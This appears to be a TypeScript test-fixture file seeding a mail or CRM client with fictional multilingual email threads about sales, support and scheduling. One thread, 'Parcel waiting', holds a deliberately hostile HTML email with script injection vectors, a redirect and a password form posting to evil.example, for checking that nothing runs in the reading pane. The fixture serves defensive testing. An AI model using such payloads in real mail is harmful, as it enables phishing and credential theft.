import type { AttachmentName } from './attachments.ts'

export interface MailSeed {
  readonly from: string
  readonly to: readonly string[]
  readonly cc?: readonly string[]
  /** Age in hours. */
  readonly age: number
  /** Paragraphs, parted by an empty line. */
  readonly body: string
  /** `both` unless said otherwise. */
  readonly form?: 'plain' | 'html' | 'both'
  /** The HTML body as it is, where it is not made from the paragraphs. */
  readonly html?: string
  readonly attach?: readonly AttachmentName[]
  readonly importance?: 'high' | 'low'
  readonly flagged?: boolean
  readonly categories?: readonly string[]
  /** Stays unread, however old. */
  readonly unread?: boolean
  /** Header lines besides the usual ones. */
  readonly headers?: Readonly<Record<string, string>>
}

export interface ThreadSeed {
  /** Used in Internet Message-IDs. */
  readonly key: string
  readonly subject: string
  /** Where the salesperson and the others keep what they received of it; the Inbox unless said otherwise. */
  readonly folder?: string
  readonly mails: readonly MailSeed[]
}

export const threads: readonly ThreadSeed[] = [
  {
    key: 'phase2',
    subject: 'Substation monitoring, phase 2',
    mails: [
      {
        from: 'fjordlys/sigrid.haugen',
        to: ['sales'],
        cc: ['fjordlys/lars.eide'],
        age: 75,
        body: 'Hi Maren,\n\nthe board wants phase 2 before the summer. Could you send us an offer for the eleven remaining substations?\n\nLars can answer anything technical.\n\nBest regards\nSigrid',
      },
      {
        from: 'sales',
        to: ['fjordlys/sigrid.haugen'],
        cc: ['fjordlys/lars.eide', 'colleague'],
        age: 70,
        body: 'Hi Sigrid,\n\nwith pleasure. Attached is our offer; Aiko from our side has checked the sensor list.\n\nKind regards\nMaren',
        attach: ['offer'],
      },
      {
        from: 'fjordlys/lars.eide',
        to: ['sales'],
        cc: ['fjordlys/sigrid.haugen', 'colleague'],
        age: 50,
        body: 'Position 7: we need the variant for −40 °C at the two northern sites. See the photo of the cabinet.\n\nLars',
        attach: ['photo'],
      },
      {
        from: 'colleague',
        to: ['fjordlys/lars.eide', 'sales'],
        cc: ['fjordlys/sigrid.haugen'],
        age: 47,
        body: 'Hello Lars,\n\nthat variant exists (part 88-210). I will change the list.\n\n愛子',
      },
      {
        from: 'fjordlys/sigrid.haugen',
        to: ['sales'],
        age: 0.15,
        body: 'Hi Maren,\n\none more question before Thursday: does the price of position 7 hold if we order both sites at once?\n\nSigrid',
        flagged: true,
      },
    ],
  },
  {
    key: 'depots',
    subject: 'Depot rollout – dates',
    mails: [
      {
        from: 'brightwater/harriet.oduya',
        to: ['sales'],
        cc: ['brightwater/siobhan.maccarthy', 'brightwater/d.oleary', 'brightwater/callum.reid'],
        age: 100,
        body: 'Maren,\n\nhere is the list of depots. Leith works only at night.\n\nHarriet',
        attach: ['depots'],
      },
      {
        from: 'sales',
        to: ['brightwater/harriet.oduya'],
        cc: ['brightwater/siobhan.maccarthy', 'brightwater/d.oleary', 'brightwater/callum.reid'],
        age: 96,
        body: 'Harriet,\n\nthank you. I propose Tilbury in the first week, Hull in the second and Leith in the third.\n\nMaren',
      },
      {
        from: 'brightwater/d.oleary',
        to: ['sales', 'brightwater/harriet.oduya'],
        age: 30,
        body: "Week two clashes with our stocktaking. Can we swap Hull and Leith?\n\nDermot O'Leary\nDepot Manager",
        form: 'plain',
      },
      {
        from: 'brightwater/harriet.oduya',
        to: ['sales'],
        age: 3.2,
        body: 'Dermot is right. Please swap, then send me the contract.\n\nHarriet',
        importance: 'high',
      },
    ],
  },
  {
    key: 'export',
    subject: 'Telematics data export: "Parquet" or CSV?',
    mails: [
      {
        from: 'brightwater/callum.reid',
        to: ['sales'],
        cc: ['colleague'],
        age: 54,
        body: 'Hi both,\n\nour warehouse people would like Parquet. Is that in the price?\n\nCallum',
      },
      {
        from: 'colleague',
        to: ['brightwater/callum.reid'],
        cc: ['sales'],
        age: 52,
        body: 'Hi Callum,\n\nyes, from version 5.\n\n愛子',
      },
      {
        from: 'brightwater/callum.reid',
        to: ['colleague', 'sales'],
        age: 26,
        body: 'Perfect. Then we are ready to sign.\n\nCallum',
      },
    ],
  },
  {
    key: 'rahmen',
    subject: 'Rahmenvertrag Sensorik 2027',
    mails: [
      {
        from: 'steiner/j.grossmann',
        to: ['sales'],
        age: 220,
        body: 'Sehr geehrte Frau Voss,\n\nanbei unsere Messwerte. Bitte nennen Sie uns Staffelpreise für 500, 1.000 und 2.500 Stück.\n\nMit freundlichen Grüßen\nJürgen Großmann',
        attach: ['readings'],
      },
      {
        from: 'sales',
        to: ['steiner/j.grossmann'],
        cc: ['steiner/b.steiner'],
        age: 200,
        body: 'Sehr geehrter Herr Großmann,\n\ndie Staffelpreise: 41,00 €, 38,50 € und 35,20 €.\n\nMit freundlichen Grüßen\nMaren Voss',
      },
      {
        from: 'steiner/b.steiner',
        to: ['sales'],
        cc: ['steiner/j.grossmann', 'steiner-at/m.gruber'],
        age: 28,
        body: 'Liebe Frau Voss,\n\nwenn Linz mitbestellt, sind wir bei 3.000 Stück. Was sagen Sie dazu?\n\nBärbel Steiner',
      },
      {
        from: 'steiner/j.grossmann',
        to: ['sales'],
        age: 5.5,
        body: 'Guten Tag Frau Voss,\n\ndie erste Bestellung wie besprochen.\n\nJ. Großmann',
        attach: ['order'],
      },
    ],
  },
  {
    key: 'claims',
    subject: 'Claims intake modernisation: workshop',
    folder: 'Inbox/Projects/Aurora',
    mails: [
      {
        from: 'aurora/niamh.byrne',
        to: ['sales'],
        cc: ['aurora/cormac.daly', 'aurora/aoife.kelly'],
        age: 140,
        body: 'Dear Maren,\n\ncould your team run a workshop in Dublin next month? Cormac would bring the architects.\n\nNiamh',
      },
      {
        from: 'sales',
        to: ['aurora/niamh.byrne'],
        cc: ['aurora/cormac.daly', 'aurora/aoife.kelly', 'nordics'],
        age: 135,
        body: 'Dear Niamh,\n\ngladly. Two days, up to twelve people.\n\nMaren',
      },
      {
        from: 'aurora/cormac.daly',
        to: ['sales'],
        cc: ['aurora/niamh.byrne'],
        age: 90,
        body: 'Attendees from my side: three architects, and Olga for data protection.\n\nCormac',
      },
      {
        from: 'aurora/aoife.kelly',
        to: ['sales'],
        age: 60,
        body: 'Please find our NDA for signature before we send the process maps.\n\nAoife',
        attach: ['nda'],
      },
    ],
  },
  {
    key: 'renewal',
    subject: 'Support renewal',
    folder: 'Inbox/Projects/Aurora',
    mails: [
      {
        from: 'aurora/aoife.kelly',
        to: ['sales'],
        age: 310,
        body: 'Hello Maren,\n\nour support contract ends in January. Same terms?\n\nAoife',
      },
      { from: 'sales', to: ['aurora/aoife.kelly'], age: 300, body: 'Hello Aoife,\n\nsame terms, same price.\n\nMaren' },
      { from: 'aurora/aoife.kelly', to: ['sales'], age: 298, body: 'Lovely, thank you.' },
    ],
  },
  {
    key: 'fasteners',
    subject: 'Fastener traceability programme / RFP 88-2',
    mails: [
      {
        from: 'kestrel/grace.whitfield',
        to: ['sales'],
        cc: ['kestrel/miguel.santos', 'kestrel/wei.zhang', 'kestrel/dale.kowalczyk'],
        age: 180,
        body: 'Maren,\n\nRFP 88-2 will be out on Monday. You are on the list. Questions go to Dale only, please.\n\nGrace Whitfield\nVP Supply Chain',
      },
      {
        from: 'kestrel/dale.kowalczyk',
        to: ['sales'],
        age: 120,
        body: 'Please confirm receipt of the RFP. Deadline is firm.',
        importance: 'high',
        form: 'plain',
      },
      {
        from: 'sales',
        to: ['kestrel/dale.kowalczyk'],
        cc: ['kestrel/grace.whitfield'],
        age: 118,
        body: 'Dale,\n\nreceived, with thanks. We will bid.\n\nMaren',
      },
      {
        from: 'kestrel/miguel.santos',
        to: ['sales', 'colleague'],
        age: 22,
        body: 'Hi,\n\nseparate matter: could we have two tablets for a trial on the line?\n\nMiguel',
      },
    ],
  },
  {
    key: 'camara',
    subject: 'Ampliação da câmara frigorífica',
    mails: [
      {
        from: 'almeida/ines.figueiredo',
        to: ['sales'],
        cc: ['almeida/joao.almeida'],
        age: 77,
        body: 'Olá Maren,\n\no João aprovou o orçamento. Quando podem vir medir?\n\nInês',
      },
      {
        from: 'sales',
        to: ['almeida/ines.figueiredo'],
        age: 74,
        body: 'Olá Inês,\n\nna próxima semana, terça ou quinta.\n\nMaren',
      },
      {
        from: 'almeida/joao.almeida',
        to: ['sales'],
        cc: ['almeida/ines.figueiredo'],
        age: 27,
        body: 'Quinta, por favor. Almoço por minha conta!\n\nJoão',
        unread: true,
      },
    ],
  },
  {
    key: 'retrofit',
    subject: 'Linea 4: retrofit & collaudo <urgente>',
    mails: [
      {
        from: 'rossi/marco.dangelo',
        to: ['sales'],
        cc: ['rossi/giulia.rossi', 'rossi/chiara.bianchi'],
        age: 49,
        body: "Buongiorno,\n\nil collaudo è anticipato al 15. È possibile?\n\nMarco D'Angelo",
      },
      {
        from: 'rossi/giulia.rossi',
        to: ['sales'],
        age: 6.8,
        body: 'Gentile Maren,\n\nconfermo: il 15 è importante per noi.\n\nGiulia Rossi',
        html: '<p>Gentile Maren,</p><p>confermo: il <b>15</b> è importante per noi.</p><p>Giulia Rossi<br><img src="cid:logo@halden-voss.example" alt="Officine Rossi" width="24"></p>',
        attach: ['logo'],
      },
    ],
  },
  {
    key: 'queretaro',
    subject: 'Centro de distribución Querétaro – ¿visita?',
    folder: 'Inbox/Projects',
    mails: [
      {
        from: 'zamora/ximena.rios',
        to: ['sales'],
        cc: ['zamora/hector.nunez'],
        age: 150,
        body: 'Estimada Maren:\n\n¿podría visitarnos en enero?\n\nXimena Ríos',
      },
      {
        from: 'sales',
        to: ['zamora/ximena.rios'],
        age: 146,
        body: 'Estimada Ximena:\n\ncon gusto, la segunda semana.\n\nMaren',
      },
    ],
  },
  {
    key: 'fuel',
    subject: 'Αναφορές καυσίμων στόλου / Fleet fuel reporting',
    mails: [
      {
        from: 'helios/n.papadopoulos',
        to: ['sales'],
        cc: ['helios/k.ioannidis'],
        age: 33,
        body: 'Καλημέρα Maren,\n\nχρειαζόμαστε αναφορές για 14 πλοία.\n\nΝίκος',
      },
      {
        from: 'helios/k.ioannidis',
        to: ['sales'],
        age: 31,
        body: 'In English for your colleagues: fourteen vessels, daily noon reports.\n\nKostas',
        form: 'plain',
      },
    ],
  },
  {
    key: 'yamamoto',
    subject: '検査装置の見積もりについて',
    mails: [
      {
        from: 'hanabi/k.yamamoto',
        to: ['colleague'],
        cc: ['sales'],
        age: 25,
        body: '田中様\n\nいつもお世話になっております。検査装置3台の見積もりをお願いいたします。\n\n山本',
      },
      {
        from: 'colleague',
        to: ['hanabi/k.yamamoto'],
        cc: ['sales'],
        age: 20,
        body: '山本様\n\n承知いたしました。明日お送りします。\n\n田中',
        attach: ['offer'],
      },
      {
        from: 'hanabi/m.suzuki',
        to: ['colleague'],
        age: 4,
        body: 'Could we also have it in English for our board?\n\nMariko Suzuki',
      },
    ],
  },
  {
    key: 'forecast',
    subject: 'Forecast review on Monday',
    mails: [
      {
        from: 'nordics',
        to: ['sales', 'colleague'],
        cc: ['admin'],
        age: 29,
        body: 'Hi both,\n\nplease have stages and dates right by Monday nine o’clock.\n\nJonas',
      },
      {
        from: 'sales',
        to: ['nordics'],
        cc: ['colleague'],
        age: 28.5,
        body: 'Done for Brightwater and Steiner. Kestrel stays a guess until the RFP is answered.\n\nMaren',
      },
      { from: 'nordics', to: ['sales'], age: 1.1, body: 'Thanks. Which of them would you bet on?\n\nJonas' },
    ],
  },
  {
    key: 'lunch',
    subject: 'Lunch?',
    mails: [
      { from: 'colleague', to: ['sales'], age: 2.1, body: 'The new noodle place at half past twelve?', form: 'plain' },
      { from: 'sales', to: ['colleague'], age: 2, body: 'Yes!', form: 'plain' },
    ],
  },
  {
    key: 'mfa',
    subject: 'Planned maintenance of the CRM on Saturday',
    mails: [
      {
        from: 'admin',
        to: ['sales', 'colleague', 'service', 'nordics'],
        age: 44,
        body: 'Dear all,\n\nthe organization will be read-only on Saturday from 06:00 to 08:00 UTC.\n\nTomás',
      },
    ],
  },
  {
    key: 'trackers',
    subject: 'Three trackers report a position in the sea',
    mails: [
      {
        from: 'brightwater/siobhan.maccarthy',
        to: ['service'],
        cc: ['sales'],
        age: 95,
        body: 'Units 1180 to 1182 are, according to the map, off Great Yarmouth. They are in Tilbury.\n\nSiobhan',
        attach: ['photo'],
      },
      {
        from: 'service',
        to: ['brightwater/siobhan.maccarthy'],
        cc: ['sales'],
        age: 93,
        body: 'Dear Siobhan,\n\nwe are looking into it. Could you run the attached and send the result?\n\nPriya Raman',
        attach: ['script'],
      },
      {
        from: 'brightwater/siobhan.maccarthy',
        to: ['service'],
        cc: ['sales'],
        age: 70,
        body: 'Our mail gateway took the attachment away. What now?\n\nSiobhan',
      },
    ],
  },
  {
    key: 'tacho',
    subject: 'Import tachografu zatrzymuje się na 80 %',
    mails: [
      {
        from: 'kowalski/lukasz.wisniewski',
        to: ['service'],
        age: 46,
        body: 'Dzień dobry,\n\nimport zatrzymuje się na 80 %. Na systemie testowym działa.\n\nŁukasz Wiśniewski',
        attach: ['readings'],
      },
      {
        from: 'service',
        to: ['kowalski/lukasz.wisniewski'],
        age: 40,
        body: 'Dear Łukasz,\n\nthank you, we can see it here too.\n\nPriya',
      },
    ],
  },
  {
    key: 'login',
    subject: 'Storing: inlogpagina geeft 502',
    mails: [
      {
        from: 'deltaclinic/p.dejong',
        to: ['service'],
        cc: ['deltaclinic/s.vandenberg'],
        age: 5,
        body: 'Beste Priya,\n\nsinds vanochtend 502 op alle locaties.\n\nPieter',
        importance: 'high',
      },
      {
        from: 'service',
        to: ['deltaclinic/p.dejong'],
        cc: ['admin'],
        age: 4.7,
        body: 'Dear Pieter,\n\nthe certificate of the proxy was renewed last night. Please restart it.\n\nPriya',
      },
    ],
  },
  {
    key: 'shaft7',
    subject: 'Schakt 7: ventilation – konfidentiellt',
    mails: [
      {
        from: 'norrsken/astrid.niemi',
        to: ['nordics'],
        age: 66,
        body: 'Hej Jonas,\n\nvi vill ha ett anbud före jul.\n\nAstrid',
      },
      {
        from: 'nordics',
        to: ['norrsken/astrid.niemi'],
        cc: ['norrsken/elin.larsson'],
        age: 62,
        body: 'Hej Astrid,\n\ndet får du.\n\nJonas',
      },
    ],
  },
  {
    key: 'invitation',
    subject: 'You are invited: Logistics Days, early registration',
    mails: [
      {
        from: 'brightwater/tariq.hussain',
        to: [
          'sales',
          'colleague',
          'brightwater/harriet.oduya',
          'brightwater/callum.reid',
          'brightwater/siobhan.maccarthy',
          'cedar/imani.brooks',
          'cedar/seth.rosenthal',
          'kowalski/zofia.kowalska',
          'helios/e.georgiou',
          'steiner/k.oezdemir',
          'aurora/padraig.nolan',
          'maple/jennifer.wong',
          'tasman/greg.hollis',
          'reyes/andres.mejia',
          'patel/meera.nair',
          'Logistics Days <hello@logistics-days.example>',
        ],
        cc: [
          'praga/jiri.novak',
          'praga/ondrej.dvorak',
          'lotus/minh.pham',
          'savanna/peter.otieno',
          'danube/agnes.kiss',
          'noor/omar.alfarsi',
        ],
        age: 170,
        body: 'Dear all,\n\nplease find the programme on the web page. See you there!\n\nTariq',
      },
    ],
  },
  {
    key: 'sample',
    subject: 'Loom sensors: trial results',
    mails: [
      {
        from: 'okonkwo/tunde.bakare',
        to: ['sales'],
        cc: ['okonkwo/chidi.okonkwo'],
        age: 400,
        body: 'Good day Maren,\n\nhumidity was too much for two of the five sensors.\n\nTunde',
      },
      {
        from: 'okonkwo/chidi.okonkwo',
        to: ['sales'],
        age: 395,
        body: 'We shall not go on for now. Let us talk again after the rains.\n\nChidi Okonkwo',
      },
      {
        from: 'sales',
        to: ['okonkwo/chidi.okonkwo'],
        cc: ['okonkwo/tunde.bakare'],
        age: 390,
        body: 'Dear Chidi,\n\nunderstood. I will be in touch in the spring.\n\nMaren',
      },
    ],
  },
  {
    key: 'four',
    subject: 'Facture en double',
    mails: [
      {
        from: 'moulin/anais.nguyen',
        to: ['sales'],
        cc: ['service'],
        age: 480,
        body: 'Bonjour,\n\nnous avons reçu deux fois la facture 20881.\n\nAnaïs',
        attach: ['invoice'],
      },
      {
        from: 'service',
        to: ['moulin/anais.nguyen'],
        cc: ['sales'],
        age: 470,
        body: 'Bonjour Anaïs,\n\nl’avoir est parti ce matin.\n\nPriya',
      },
      {
        from: 'moulin/elodie.moulin',
        to: ['sales'],
        age: 465,
        body: 'Merci ! Et le four marche à merveille.\n\nÉlodie',
      },
    ],
  },
  {
    key: 'purchase',
    subject: 'वितरण कार्यक्रम / Serialisation for plant 2',
    mails: [
      {
        from: 'patel/rahul.deshmukh',
        to: ['colleague'],
        cc: ['sales', 'patel/ananya.patel'],
        age: 58,
        body: 'नमस्ते,\n\nकृपया समय-सारणी भेजें।\n\nराहुल',
      },
      {
        from: 'patel/ananya.patel',
        to: ['colleague', 'sales'],
        age: 57,
        body: 'In short: Rahul asks for a schedule.\n\nAnanya',
      },
    ],
  },
  {
    key: 'dubai',
    subject: 'عرض شراكة / Partnership offer',
    mails: [
      {
        from: 'noor/layla.haddad',
        to: ['colleague', 'sales'],
        age: 80,
        body: 'مرحباً،\n\nنودّ مناقشة الشراكة في الشهر المقبل.\n\nليلى حداد',
        html: '<div dir="rtl"><p>مرحباً،</p><p>نودّ مناقشة الشراكة في الشهر المقبل.</p><p>ليلى حداد</p></div>',
      },
    ],
  },
  {
    key: 'scout',
    subject: 'Enquiry from your web page',
    mails: [
      {
        from: 'Wilhelmina Okafor-Bright <w.okafor@unlisted-buyer.example>',
        to: ['sales'],
        age: 7.5,
        body: 'Hello,\n\nwe make musical instruments and look for humidity sensors, about forty. Whom may I call?\n\nWilhelmina Okafor-Bright',
        form: 'plain',
      },
      {
        from: 'Wilhelmina Okafor-Bright <w.okafor@unlisted-buyer.example>',
        to: ['sales'],
        age: 0.8,
        body: 'P.S. Our number is +44 1632 960 961.',
        form: 'plain',
      },
    ],
  },
  {
    key: 'lead7',
    subject: 'Suite au salon de Casablanca',
    mails: [
      {
        from: 'Samir Benali <samir.benali@atlas-solaire.example>',
        to: ['sales'],
        age: 23,
        body: 'Bonjour Maren,\n\nravi de vous avoir rencontrée. Quand pouvons-nous parler ?\n\nSamir',
      },
    ],
  },
  {
    key: 'lead13',
    subject: 'Tender for ten sites',
    mails: [
      {
        from: 'Bartholomew Nkemelu-Ashworth <b.nkemelu@ashworth-estates.example>',
        to: ['sales'],
        age: 51,
        body: 'Dear Ms Voss,\n\nthe tender will be published on 8 January.\n\nB. Nkemelu-Ashworth',
        flagged: true,
      },
      {
        from: 'sales',
        to: ['Bartholomew Nkemelu-Ashworth <b.nkemelu@ashworth-estates.example>'],
        age: 48,
        body: 'Dear Mr Nkemelu-Ashworth,\n\nthank you, we shall be there.\n\nMaren Voss',
      },
    ],
  },
  {
    key: 'prize',
    subject: 'Parcel waiting: confirm your address now',
    mails: [
      {
        from: 'Parcel Desk <no-reply@parcel-desk.example>',
        to: ['sales'],
        age: 9,
        unread: true,
        body: 'Your parcel is waiting.',
        // Hostile on purpose: nothing of this may ever run in a reading pane or in the CRM.
        html: '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="window.top.tandemHacked=1"><h1>Your parcel is waiting</h1><script>window.top.tandemHacked=2;document.title="hacked"</script><img src="x" onerror="window.top.tandemHacked=3"><svg><script>window.top.tandemHacked=4</script></svg><a href="javascript:window.top.tandemHacked=5">Confirm</a><iframe srcdoc="&lt;script&gt;window.top.tandemHacked=6&lt;/script&gt;"></iframe><form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form><style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/beacon)}</style></body></html>',
      },
    ],
  },
  {
    key: 'news-1',
    subject: 'Sensor Weekly #48: what the cold does to batteries',
    folder: 'Inbox/Newsletters',
    mails: [
      {
        from: 'Sensor Weekly <news@sensor-weekly.example>',
        to: ['sales'],
        age: 36,
        body: 'What the cold does to batteries\n\nAnd: three books for the winter.',
        form: 'html',
        headers: {
          'List-Unsubscribe': '<https://sensor-weekly.example/unsubscribe>',
          'List-Id': 'Sensor Weekly <weekly.sensor-weekly.example>',
          Precedence: 'bulk',
        },
      },
    ],
  },
  {
    key: 'news-2',
    subject: 'Sensor Weekly #47: standards, standards',
    folder: 'Inbox/Newsletters',
    mails: [
      {
        from: 'Sensor Weekly <news@sensor-weekly.example>',
        to: ['sales'],
        age: 204,
        body: 'Standards, standards\n\nA new one every week.',
        form: 'html',
        headers: {
          'List-Unsubscribe': '<https://sensor-weekly.example/unsubscribe>',
          'List-Id': 'Sensor Weekly <weekly.sensor-weekly.example>',
          Precedence: 'bulk',
        },
      },
    ],
  },
  {
    key: 'absent',
    subject: 'Automatic reply: Depot rollout – dates',
    mails: [
      {
        from: 'brightwater/siobhan.maccarthy',
        to: ['sales'],
        age: 95.9,
        body: 'I am away until Thursday. In urgent matters please call the depot.',
        form: 'plain',
        headers: { 'Auto-Submitted': 'auto-replied', 'X-Auto-Response-Suppress': 'All' },
      },
    ],
  },
  {
    key: 'nosubject',
    subject: '',
    mails: [{ from: 'tasman/greg.hollis', to: ['sales'], age: 110, body: 'Sent from my telephone', form: 'plain' }],
  },
  {
    key: 'twomuellers',
    subject: 'Schichtbericht: falsche Zeitzone',
    mails: [
      {
        from: 'steiner/h.mueller',
        to: ['service'],
        cc: ['sales', 'steiner/h.mueller2'],
        age: 130,
        body: 'Guten Tag,\n\nseit der Zeitumstellung ist der Schichtbericht eine Stunde zu früh.\n\nHans-Peter Müller',
      },
      {
        from: 'steiner/h.mueller2',
        to: ['service', 'sales'],
        age: 125,
        body: 'Und die Kosten stimmen deshalb auch nicht.\n\nHans Müller (Controlling)',
      },
    ],
  },
  {
    key: 'survey',
    subject: 'Site survey Tilbury',
    mails: [
      {
        from: 'sales',
        to: ['colleague'],
        cc: ['brightwater/harriet.oduya'],
        age: 8,
        body: 'Aiko,\n\ncould you do the survey with Dermot?\n\nMaren',
      },
      {
        from: 'colleague',
        to: ['sales'],
        cc: ['brightwater/harriet.oduya'],
        age: 7.2,
        body: 'Of course. Thursday.\n\n愛子',
      },
    ],
  },
]
